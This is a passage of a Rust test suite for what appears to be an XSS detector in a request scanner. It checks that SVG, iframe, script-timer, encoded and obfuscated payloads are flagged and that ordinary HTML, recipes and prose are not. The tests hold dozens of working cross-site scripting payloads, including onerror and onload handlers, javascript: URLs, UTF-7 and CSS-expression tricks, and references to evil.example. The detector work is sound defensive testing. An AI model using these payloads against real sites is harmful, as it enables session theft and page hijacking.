        for v in [
            "<svg viewBox=\"0 0 8 8\" onload=\"go(1)\"><path d=\"M0 0h8\"/></svg>",
            "<svg><script>go(1)</script><circle r=\"2\"/></svg>",
            "<svg><a xlink:href=\"javascript:go(1)\"><rect width=\"9\"/></a></svg>",
            "<svg><foreignObject width=\"9\" height=\"9\"><div xmlns=\"http://www.w3.org/1999/xhtml\">hi</div></foreignObject></svg>",
            "<svg><a id=\"l\"><animate attributeName=\"href\" values=\"https://evil.example/\"/><text>x</text></a></svg>",
            "<svg><set attributeName=\"xlink:href\" to=\"https://evil.example/\"/></svg>",
            "<svg><use href=\"https://evil.example/sprite.svg#a\"/></svg>",
            "<svg><use xlink:href=\"//evil.example/x.svg#x\"></use></svg>",
            "<svg><circle r=\"1\"/></svg><img src=x>",
            "<b>x</b><svg><circle r=\"1\"/></svg>",
        ] {
            assert!(upload(v), "{v}");
        }
        for v in ["<svg><foreignObject><iframe src=\"//evil.example\"></iframe></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>"] {
            assert!(flags_in_json("attack.xss", v), "{v}");
        }
    }

    #[test]
    fn a_document_closing_its_own_title_is_no_breakout() {
        // E-mail and page bodies an API stores: whole documents, titles and text areas included.
        for v in [
            "<html><head><title>Spring sale</title></head><body><p>20% off this week</p></body></html>",
            "<!doctype html><html><head><title></title><style>p{color:#333}</style></head><body>Hi</body></html>",
            "<form><textarea name=\"note\">Leave a note</textarea></form>",
        ] {
            assert!(!any_flag_in_json(v), "{v}");
        }
        // Closing an element the value never opened ends the page's own, in JSON too.
        for v in ["</title><h1>owned</h1>", "x</textarea><b>y", "</ style ><p>z", "<p>a</p></title><p>b</p>", "<title>t</title></title><i>x</i>"] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_in_json("attack.xss", v), "{v} in JSON");
        }
    }

    #[test]
    fn embedded_content_in_a_json_body_needs_script() {
        for v in [
            "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\"><path d=\"M0 0h8v8H0z\"/></svg>",
            "<p>Watch:</p><iframe width=\"560\" src=\"https://www.youtube.com/embed/x\"></iframe>",
            "<style>p { color: #333 }</style><p>Hello</p>",
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><link rel=\"stylesheet\" href=\"https://cdn.example.com/a.css\"></head><body>Hi</body></html>",
        ] {
            assert!(!any_flag_in_json(v), "{v}");
            assert!(flags("attack.xss", v), "{v} in a URL");
        }
        for v in ["<svg onload=alert(1)>", "<iframe src=\"javascript:alert(1)\">", "<svg><base href=//evil.example/>", "<iframe srcdoc=\"<script>x</script>\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"] {
            assert!(flags_in_json("attack.xss", v), "{v}");
        }
    }

    #[test]
    fn script_timers_and_module_imports_outside_json_text() {
        use crate::fields::Part;
        for v in [
            "setInterval(payload, 10)",
            "setTimeout('document.location=1', 0)",
            "setTimeout(poll(), 100)",
            "import {readFile} from 'fs'",
            "import * as m from \"//evil.example/m.js\"",
            "import('//evil.example/x.js')",
            "¼b¾bold¼/b¾",
            "x%C2%BC/title%C2%BE",
            "\\u00bcp class=x\\u00be",
            "\\xbcp\\xbehi\\xbc/p\\xbe",
        ] {
            assert!(flags("attack.xss", v), "{v}");
            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
            assert!(!flags_in_json("attack.xss", v), "{v} as a code sample in a JSON text field");
        }
        for v in [
            "set the interval (in seconds)",
            "setTimeout is a function",
            "import the data from the spreadsheet",
            "important {notes} from 'Bob'",
            "reimport {a} from 'b'",
            "import duties from 'France'",
            "add ¼ cup flour and ¾ cup sugar",
            "1¼ hours, ¾ done",
            "\\xbc\\xbc and \\xd0\\xbcp\\xd0\\xbe",
        ] {
            assert!(!flags("attack.xss", v), "{v}");
        }
    }

    #[test]
    fn catches_xss() {
        assert_family(
            "attack.xss",
            &[
                "<noscript><p title=\"</noscript><img src=x>\">",
                "<xmp>",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "\"><svg/onload=confirm`1`>",
                "javascript:alert(document.cookie)",
                "jav&#x09;ascript&colon;alert(1)",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "&lt;iframe src=//evil&gt;",
                "\" onmouseover=\"alert(1)",
                "' autofocus onfocus=alert(1) x='",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<div style=\"width: expression(alert(1))\">",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "';alert(String.fromCharCode(88))//",
                "\\u003cimg src=1 onerror=alert(1)\\u003e",
                "<body onload=alert(1)>",
                "</title><script>alert(1)</script>",
                "<g foo:onmouseover=\"run()\">",
                "<p xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"click\">",
                "<q:vmlframe src=\"//h.example/y.fml\"/>",
                "<table datasrc=\"#d\" datafld=\"c\">",
                "<b title=\"x\" lang=prompt(9)>",
                "confirm(42)",
                "top /* c */ [\"ale\"+\"rt\"](1)",
                "(window)['loc'+'ation']='//h.example'",
                "<p style=\"width:expr\\65 ssion(alert(2))\">",
                "<i style=x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(write(1))>",
                "(!![] [])[ ! [] ! []]",
                "jav\tascript:",
                "<svg:script>x()</svg:script>",
                "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
                "<p style=\"margin:0}p{color:blue\">",
                "<b style=\"list-style:url(/a b.png)\">",
                "<b style=\"list-style:url(/a;b:c)\">",
                "window/**/.name",
                "btoa(7)",
                "<b onclick!~/=go()>",
                "<hr width=\"&{go()};\">",
                "<b style=\"x[y]:z\">",
            ],
            &[
                "I <3 you",
                "a < b and c > d",
                "Call onboarding=true when done",
                "The online store is open",
                "JavaScript: The Good Parts",
                "Use eval(expr) only in tests",
                "```js\nconst x = document.getElementById('a');\n```",
                "See <b>bold</b> and <i>italic</i> text",
                "<p>Hello <a href=\"https://example.com\">link</a></p>",
                "![image](https://example.com/a.png)",
                "data: 42 rows",
                "Top [10] results",
                "one=1&two=2",
                "x => x + 1",
                "<user@example.com>",
                "Use /* comments */ in CSS",
                "C:\\Users\\alice\\Documents\\x.txt",
                "<span style=\"color:#c00\">red</span>",
                "<table><tr><td>1</td></tr></table>",
                "Call alert() when done",
                "confirm (yes/no) before deleting",
                "\u{bc} cup sugar, \u{be}cup flour",
                "See ![](a.png) and ![b](c.png)",
                "{\"a\": [1, 2], \"b\": []}",
                "document.title is shown in the tab",
                "if (!a && !b) { return [] }",
                "<td style=\"background:url( /img/a.png ); width:{{ w }}px; height:${h}px\">",
                "<p style=\"font-family:'Open Sans', serif;\nline-height:1.5\">",
                "Use window.open(url) to open a tab",
                "<div style=\"grid-template-columns: [full-start] 1fr [full-end]\">",
                "width=&{x}",
                "document.addEventListener('click', function(){ console.log('hi') })",
                "import os\nprint(os.path.exists('/etc/hosts'))\nprint(open('/etc/hosts').read())",
            ],
        );
    }
}
